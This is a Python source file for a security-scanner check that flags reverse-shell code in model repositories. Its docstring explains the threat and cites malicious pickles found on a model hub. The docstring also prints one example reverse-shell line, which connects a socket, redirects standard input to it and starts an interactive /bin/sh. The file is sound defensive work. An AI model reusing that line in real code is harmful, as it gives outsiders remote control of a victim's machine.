"""Code that hands a shell to somebody else

## What it does
Recognises the shapes of reverse shells: a socket put in place of standard input and output, a shell or terminal started
on one, and the command lines that do the same.

## Why it matters
There is no honest use in a model. Pickles and loaders with exactly this payload were found on the Hub in 2024 and 2025.

## Example
`s.connect((host, port)); os.dup2(s.fileno(), 0); subprocess.call(["/bin/sh", "-i"])`

## How to fix
Do not run this code, and report the repository.

## References
- https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/
- https://attack.mitre.org/techniques/T1059/
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from trustaudit.checks._code import code_facts, code_finding
from trustaudit.checks._text import bounded
from trustaudit.checks.interface import CheckMeta, Context, Need
from trustaudit.finding import Category, Confidence, Finding, Severity
from trustaudit.snapshot import Snapshot

META = CheckMeta(
    id="code-reverse-shell",
    title="Code that hands a shell to somebody else",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    needs=frozenset({Need.CONTENTS}),
    local=True,
)

_SIGN = "reverse-shell"


def run(snapshot: Snapshot, _context: Context) -> Iterable[Finding]:
    """One finding per sign, bounded in number."""
    return bounded(META, _findings(snapshot))


def _findings(snapshot: Snapshot) -> Iterator[Finding]:
    for fact in code_facts(snapshot, "flow", "process"):
        if fact.what == _SIGN or _SIGN in fact.note.get("traits").split():
            severity = fact.weighed(Severity.CRITICAL, loose=1, hosted=Severity.HIGH)
            yield code_finding(META, fact, "opens a shell for somebody else", severity, Confidence.HIGH)
